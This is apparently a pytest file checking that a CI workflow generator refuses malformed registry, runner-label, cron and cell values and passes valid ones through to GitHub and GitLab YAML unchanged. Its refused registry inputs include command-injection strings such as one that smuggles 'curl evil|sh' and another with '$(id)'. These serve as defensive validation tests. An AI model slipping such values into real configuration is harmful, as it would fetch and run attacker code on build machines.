"""Values of options in workflow files: they come back as they were typed, or are refused."""

from __future__ import annotations

from dataclasses import replace

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from ftbuild.ci import github, gitlab, values
from ftbuild.ci.options import MARK, Options
from ftbuild.cli import ci
from ftbuild.cli.ci import CiOptions
from ftbuild.cli.selection import Selection
from ftbuild.errors import ConfigError
from ftbuild.matrix import Cell
from ftbuild.sm import Sm
from testing import ROOT
from tests.unit.cli.test_commands import invoke

CELLS = (Cell("22.12", (Sm(80),), "ngc", True),)
SAMPLE = Selection(ROOT / "buildcfg" / "sample", ["22.12"], ["80"])


NO_SCHEDULES = """\
17 1 * *
0 3 * * 1 # x
60 1 * * *
0 24 * * *
0 0 0 * *
0 0 * 13 *
0 0 * * 7
0  0 * * *
5-1 * * * *
*/0 * * * *
*/60 * * * *
0 0 * MAY-JAN *
0 0 * * mon
0 0 * * \u0661
1,, * * * *
${{ x }} * * * *
@daily
""".splitlines()


def options(**given: object) -> Options:
    return ci.options(SAMPLE, replace(CiOptions(), **given), ROOT)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "registry",
    [
        'r.example.com/x"; curl evil|sh; "',
        "r.example.com/$(id)",
        "r.example.com/team\nrun: x",
        "http://r.example.com/team",
        "r.example.com/Team",
        "r.example.com/team:tag",
        "docker.io/me",  # has no room for a repository of staged images
    ],
)
def test_what_is_no_registry_is_refused(registry: str) -> None:
    with pytest.raises(ConfigError) as refused:
        options(registry=registry)
    assert refused.value.exit_code == 2


def test_docker_hub_will_do_where_nothing_is_staged() -> None:
    assert options(registry="docker.io/me", one_host=True).registry == "docker.io/me"


@pytest.mark.parametrize("option", ["cpu_runner", "gpu_runner", "test_runner"])
@pytest.mark.parametrize(
    "labels", ["a\nb", "${{ github.actor }}", "$TAG", "a,,b", ",", " ", "a\u2028b", "\x1b[1m"]
)
def test_labels_that_would_not_arrive_are_refused(option: str, labels: str) -> None:
    with pytest.raises(ConfigError, match=f"--{option.replace('_', '-')}: "):
        options(**{option: labels})


@pytest.mark.parametrize("cron", [*NO_SCHEDULES, "17 1 * * *\n", ""])
def test_a_schedule_that_never_starts_is_refused(cron: str) -> None:
    with pytest.raises(ConfigError, match="--cron: "):
        options(cron=cron)


@pytest.mark.parametrize(
    "cron", ["17 1 * * *", "*/15 0-6 1,15 JAN-MAR MON-FRI", "0 0 31 12 0,6", "5-59/10 */2 * * SAT"]
)
def test_schedules_arrive(cron: str) -> None:
    nightly = yaml.safe_load(github.files(options(cron=cron))[github.NIGHTLY])
    assert nightly["on"]["schedule"] == [{"cron": cron}]


def test_a_pattern_of_cells_stays_on_its_line() -> None:
    with pytest.raises(ConfigError, match="--cell: "):
        ci.options(replace(SAMPLE, triton=(), sm=(), cell=["22.12-sm8[!\n]"]), CiOptions(), ROOT)


def test_a_refused_value_ends_with_2_and_leaves_the_files_alone() -> None:
    done = invoke("dev.ci", "--check", "--cron", "at night")
    assert done.returncode == 2
    assert "--cron: 'at night' is not a schedule" in done.stderr
    assert "17 1 * * *" in done.stderr


LABELS = st.lists(st.text(min_size=1, max_size=12), min_size=1, max_size=3)


@settings(max_examples=50, deadline=None)  # a busy machine is no failure
@given(LABELS)
def test_labels_arrive_as_they_were_typed_or_are_refused(labels: list[str]) -> None:
    try:
        typed = values.labels("--cpu-runner", ",".join(labels))
    except ConfigError:
        return
    made = Options(CELLS, cpu=typed, gpu=typed, test=typed)
    on_github, on_gitlab = github.files(made), gitlab.files(made)[gitlab.PATH]
    assert yaml.safe_load(on_github[github.CELL])["jobs"]["build"]["runs-on"] == list(typed)
    assert yaml.safe_load(on_gitlab)["default"]["tags"] == list(typed)
    assert yaml.safe_load(on_gitlab)["test"]["tags"] == list(typed)
    for text in (*on_github.values(), on_gitlab):
        first, *rest = text.splitlines()
        assert first.startswith(MARK)
        assert first.endswith("`: do not edit, run it again.")
        assert rest[0].startswith("# ")


def test_a_pipeline_builds_whole_cells_alone() -> None:
    lean = Selection(ROOT / "buildcfg", ["22.12"], ["80"], without=["beams"])
    with pytest.raises(ConfigError, match="sm80-without-beams leaves something out") as refused:
        ci.options(lean, CiOptions(registry="r.example/x"), ROOT)
    assert "--one-host" in (refused.value.hint or "")
    assert "--without" in ci.options(lean, CiOptions(registry="r.example/x", one_host=True), ROOT).selection
